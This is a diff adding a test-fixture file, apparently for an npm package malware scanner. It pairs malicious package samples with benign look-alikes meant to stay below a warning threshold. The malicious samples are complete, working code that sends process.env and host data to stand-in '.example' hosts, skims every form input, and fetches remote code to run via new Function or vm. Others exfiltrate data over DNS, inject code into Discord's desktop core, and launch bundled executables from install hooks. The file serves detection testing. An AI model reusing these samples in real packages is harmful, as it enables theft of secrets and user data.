@@ -1,0 +1,155 @@
+/**
+ * npm families of issue 22, round `pkg22npm` (docs/package-analysis.md "Branch pkg22npm"), written here (not taken from any
+ * blind set): code reached from `main` / `exports` / `bin` or a hook but kept in a folder named like examples or tests
+ * (`demo/`, `examples/`, `test/`), a form skimmer that copies every input with no card word, and the issue's named
+ * families in further syntax (hooks written `node .` / `node ./` whose entry sits in such a folder; DNS recon at import;
+ * fetched text deserialised or compiled: `node-serialize`, `vm.runInNewContext`, `new Function`; another desktop
+ * application's code written; fingerprints posted to an issue tracker's API). Each is inert text packed in memory; hosts
+ * are invented (`.example`) or the services' public names.
+ *
+ * HONEST_22 are the look-alikes that must stay below CAUTION: a `demo/` folder no entry names, a demo main that only
+ * prints, a form serialiser posting to the page's own origin or to the form's action, an issue-filing CLI posting what
+ * its user typed, a template engine compiling its own files, a DNS check of the host's own name.
+ */
+const pj = (extra: Record<string, unknown> = {}) => JSON.stringify({ name: 'pkgx', version: '1.0.0', ...extra });
+/** A minimal PE header (MZ, e_lfanew → "PE\0\0"): enough for the magic-byte check, inert. */
+const PE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(0x3a), Buffer.from([0x80, 0, 0, 0]), Buffer.alloc(0x40), Buffer.from('PE\0\0'), Buffer.alloc(100)]);
+const STEAL = `const os = require('os');\nconst https = require('https');\nconst d = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, e: process.env });\nconst r = https.request({ hostname: 'collect.evil-metrics.example', path: '/c', method: 'POST' });\nr.write(d);\nr.end();\n`;
+
+/** Malicious variants by id: their files. */
+export const MALICIOUS_22: Record<string, Record<string, string | Buffer>> = {
+  // 1. Entry points in folders named like examples or tests.
+  roleDemoMain: { 'package.json': pj({ main: 'demo/index.js' }), 'demo/index.js': STEAL },
+  roleExamplesRequired: {
+    'package.json': pj({ main: 'examples/app.js' }),
+    'examples/app.js': `require('./lib');\nmodule.exports = { ok: true };\n`,
+    'examples/lib.js': STEAL,
+  },
+  roleTestBin: { 'package.json': pj({ bin: { pkgx: 'test/cli.js' } }), 'test/cli.js': `#!/usr/bin/env node\n${STEAL}` },
+  roleDemoExports: {
+    'package.json': pj({ exports: { '.': { require: './demo/x.cjs', import: './demo/x.mjs' } } }),
+    'demo/x.cjs': STEAL,
+    'demo/x.mjs': `import './x.cjs';\nexport default 1;\n`,
+  },
+  roleSamplesBrowser: {
+    'package.json': pj({ main: 'index.js', browser: './samples/web.js' }),
+    'index.js': 'module.exports = 1;\n',
+    'samples/web.js': `document.addEventListener('submit', () => {\n  const all = {};\n  document.querySelectorAll('input').forEach((el) => { all[el.name] = el.value; });\n  navigator.sendBeacon('https://metrics.cdn-edge.example/b', JSON.stringify(all));\n});\n`,
+  },
+  hookDotDemoMain: {
+    'package.json': pj({ main: 'demo/run.js', scripts: { postinstall: 'node .' } }),
+    'demo/run.js': `const { spawn } = require('child_process');\nspawn(require('path').join(__dirname, 'bin', 'host.exe'), [], { detached: true, stdio: 'ignore' }).unref();\n`,
+    'demo/bin/host.exe': PE,
+  },
+  hookDotSlashExamplesExports: {
+    'package.json': pj({ exports: './examples/start.js', scripts: { install: 'node ./' } }),
+    'examples/start.js': `const cp = require('node:child_process');\ncp.exec('start "" "' + __dirname + '\\\\..\\\\res\\\\svc.exe"');\n`,
+    'res/svc.exe': PE,
+  },
+  // 2. A form skimmer copying every input, no card word.
+  skimAllFetch: {
+    'package.json': pj({ main: 'index.js' }),
+    'index.js': `document.addEventListener('submit', function () {\n  var d = {};\n  document.querySelectorAll('input').forEach(function (el) { d[el.name] = el.value; });\n  fetch('https://stats.cdn-metrics.example/c', { method: 'POST', body: JSON.stringify(d) });\n});\n`,
+  },
+  skimAllImage: {
+    'package.json': pj({ main: 'index.js' }),
+    'index.js': `window.addEventListener('load', () => {\n  const f = document.forms[0];\n  f.addEventListener('submit', () => {\n    const o = {};\n    for (const el of f.elements) o[el.id] = el.value;\n    new Image().src = 'https://pix.example-cdn.example/p.gif?d=' + btoa(JSON.stringify(o));\n  });\n});\n`,
+  },
+  skimAllXhr: {
+    'package.json': pj({ main: 'dist/widget.js' }),
+    'dist/widget.js': `(function(){var E='https://api.form-insights.example/v1/e';function grab(){var q=[],i,els=document.getElementsByTagName('input');for(i=0;i<els.length;i++){q.push(els[i].name+'='+encodeURIComponent(els[i].value));}var x=new XMLHttpRequest();x.open('POST',E);x.send(q.join('&'));}document.addEventListener('change',grab);})();\n`,
+  },
+  skimAllFormData: {
+    'package.json': pj({ main: 'index.js' }),
+    'index.js': `const ws = new WebSocket('wss://live.chat-relay.example/s');\ndocument.addEventListener('blur', () => {\n  const fd = new URLSearchParams();\n  for (const el of document.querySelectorAll('input, textarea, select')) fd.append(el.getAttribute('name'), el.value);\n  ws.send(fd.toString());\n}, true);\n`,
+  },
+  // 5. The issue's families in further syntax.
+  dnsImportTxt: {
+    'package.json': pj({ main: 'index.js' }),
+    'index.js': `const dns = require('dns');\nconst os = require('os');\ndns.resolveTxt([os.hostname(), os.userInfo().username, 'q', 'oast-cb', 'example'].join('.'), () => {});\nmodule.exports = {};\n`,
+  },
+  dnsAsyncEnv: {
+    'package.json': pj({ main: 'lib/index.js' }),
+    'lib/index.js': `const { promises: dnsp } = require('node:dns');\n(async () => {\n  try { await dnsp.lookup(\`\${process.env.COMPUTERNAME}.\${process.env.USERDOMAIN}.c.dnsbin.example\`); } catch {}\n})();\nexports.x = 1;\n`,
+  },
+  dnsNslookupImport: {
+    'package.json': pj({ main: 'index.js' }),
+    'index.js': `const { execSync } = require('child_process');\ntry { execSync('nslookup ' + require('os').hostname() + '.b.oob-check.example', { stdio: 'ignore' }); } catch (e) {}\n`,
+  },
+  deserializeAwait: {
+    'package.json': pj({ main: 'index.js', scripts: { postinstall: 'node ./' } }),
+    'index.js': `const { unserialize } = require('node-serialize');\nconst axios = require('axios');\n(async () => {\n  const { data } = await axios.get('https://cfg.update-svc.example/state');\n  unserialize(data);\n})();\n`,
+  },
+  runInNewContextFetched: {
+    'package.json': pj({ main: 'index.js' }),
+    'index.js': `const vm = require('vm');\nconst https = require('https');\nhttps.get('https://cdn.plugin-host.example/p.js', (res) => {\n  let body = '';\n  res.on('data', (c) => (body += c));\n  res.on('end', () => vm.runInNewContext(body, { require, process, console }));\n});\n`,
+  },
+  newFunctionResponse: {
+    'package.json': pj({ main: 'index.js', scripts: { postinstall: 'node .' } }),
+    'index.js': `async function boot() {\n  const r = await fetch('https://edge.telemetry-kit.example/boot');\n  const src = await r.text();\n  const run = new Function('require', 'process', src);\n  run(require, process);\n}\nboot().catch(() => {});\n`,
+  },
+  newFunctionAxiosData: {
+    'package.json': pj({ main: 'index.js' }),
+    'index.js': `const axios = require('axios');\naxios.get('https://cdn.helper-host.example/h').then((res) => { Function(res.data)(); });\n`,
+  },
+  discordCoreWrite: {
+    'package.json': pj({ main: 'index.js', scripts: { postinstall: 'node index.js' } }),
+    'index.js': `const fs = require('fs');\nconst path = require('path');\nconst base = path.join(process.env.LOCALAPPDATA || '', 'Discord');\nfor (const d of fs.readdirSync(base).filter((x) => x.startsWith('app-'))) {\n  const core = path.join(base, d, 'modules', 'discord_desktop_core-1', 'discord_desktop_core', 'index.js');\n  fs.writeFileSync(core, "require('https').get('https://x.hook-relay.example/'+process.env.USERNAME);module.exports=require('./core.asar');");\n}\n`,
+  },
+  discordCorePromises: {
+    'package.json': pj({ main: 'lib/index.js' }),
+    'lib/index.js': `const { writeFile } = require('fs/promises');\nconst { join } = require('path');\nconst os = require('os');\nconst target = join(os.homedir(), 'AppData', 'Roaming', 'discordcanary', '1.0.60', 'modules', 'discord_desktop_core', 'index.js');\nwriteFile(target, 'module.exports = require("./core.asar"); require("./inject")').catch(() => {});\n`,
+  },
+  trackerOctokitIssue: {
+    'package.json': pj({ main: 'index.js', scripts: { postinstall: 'node index.js' } }),
+    'index.js': `const { Octokit } = require('@octokit/rest');\nconst os = require('os');\nconst kit = new Octokit({ auth: 'ghp_' + 'x'.repeat(36) });\nkit.rest.issues.create({ owner: 'acct', repo: 'notes', title: os.hostname(), body: JSON.stringify({ u: os.userInfo().username, cwd: process.cwd(), ni: os.networkInterfaces() }) });\n`,
+  },
+  trackerGithubImport: {
+    'package.json': pj({ main: 'index.js' }),
+    'index.js': `const os = require('os');\nfetch('https://api.github.com/repos/acct/notes/issues', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ title: os.hostname(), body: os.userInfo().username + ' ' + process.cwd() }) }).catch(() => {});\n`,
+  },
+  trackerGitlabQuery: {
+    'package.json': pj({ main: 'index.js', scripts: { preinstall: 'node ./' } }),
+    'index.js': `const https = require('https');\nconst os = require('os');\nconst q = encodeURIComponent(os.userInfo().username + '@' + os.hostname());\nconst req = https.request('https://gitlab.com/api/v4/projects/4242/issues?title=' + q, { method: 'POST' });\nreq.end();\n`,
+  },
+};
+
+/** Honest look-alikes by id: they must stay below CAUTION. */
+export const HONEST_22: Record<string, Record<string, string | Buffer>> = {
+  // A demo folder no entry names: an example program, reported at LOW.
+  demoUnnamed: { 'package.json': pj({ main: 'index.js', scripts: { demo: 'node demo/run.js' } }), 'index.js': 'module.exports = (a, b) => a + b;\n', 'demo/run.js': STEAL },
+  // A demo main that only prints.
+  demoMainPrints: { 'package.json': pj({ main: 'demo/index.js' }), 'demo/index.js': `const os = require('os');\nmodule.exports = () => console.log('running on', os.hostname());\n` },
+  // A test file the test script runs.
+  testScript: { 'package.json': pj({ main: 'index.js', scripts: { test: 'node test/run.js' } }), 'index.js': 'module.exports = 1;\n', 'test/run.js': STEAL },
+  // A form serialiser posting every field to the page's own origin or to the form's action.
+  formOwnOrigin: {
+    'package.json': pj({ main: 'index.js' }),
+    'index.js': `export function submitJson(form) {\n  const d = {};\n  form.querySelectorAll('input, select, textarea').forEach((el) => { d[el.name] = el.value; });\n  return fetch('/api/forms', { method: 'POST', body: JSON.stringify(d) });\n}\n`,
+  },
+  formAction: {
+    'package.json': pj({ main: 'index.js' }),
+    'index.js': `export function send(form) {\n  const body = new URLSearchParams();\n  for (const el of form.elements) body.append(el.name, el.value);\n  return fetch(form.action, { method: form.method || 'POST', body });\n}\n`,
+  },
+  formConfiguredEndpoint: {
+    'package.json': pj({ main: 'index.js' }),
+    'index.js': `module.exports = function capture(opts) {\n  document.addEventListener('submit', () => {\n    const d = {};\n    document.querySelectorAll('input').forEach((el) => { if (el.type !== 'password') d[el.name] = el.value; });\n    navigator.sendBeacon(opts.endpoint, JSON.stringify(d));\n  });\n};\n`,
+  },
+  // A form-analytics SDK posting fields to the host its metadata declares.
+  formOwnService: {
+    'package.json': pj({ main: 'index.js', homepage: 'https://formstats.example' }),
+    'index.js': `document.addEventListener('submit', () => {\n  const d = {};\n  document.querySelectorAll('input').forEach((el) => { d[el.name] = el.value; });\n  fetch('https://api.formstats.example/v1/forms', { method: 'POST', body: JSON.stringify(d) });\n});\n`,
+  },
+  issueCli: {
+    'package.json': pj({ bin: { 'file-issue': 'cli.js' } }),
+    'cli.js': `#!/usr/bin/env node\nconst [, , repo, title, body] = process.argv;\nfetch('https://api.github.com/repos/' + repo + '/issues', { method: 'POST', headers: { authorization: 'token ' + process.env.GITHUB_TOKEN }, body: JSON.stringify({ title, body }) });\n`,
+  },
+  templateCompileLocal: {
+    'package.json': pj({ main: 'index.js' }),
+    'index.js': `const vm = require('vm');\nconst fs = require('fs');\nmodule.exports = (file, ctx) => vm.runInNewContext(fs.readFileSync(file, 'utf8'), ctx);\n`,
+  },
+  dnsSelfCheck: {
+    'package.json': pj({ main: 'index.js' }),
+    'index.js': `const dns = require('dns');\nconst os = require('os');\nmodule.exports = (cb) => dns.lookup(os.hostname(), cb);\n`,
+  },
+};
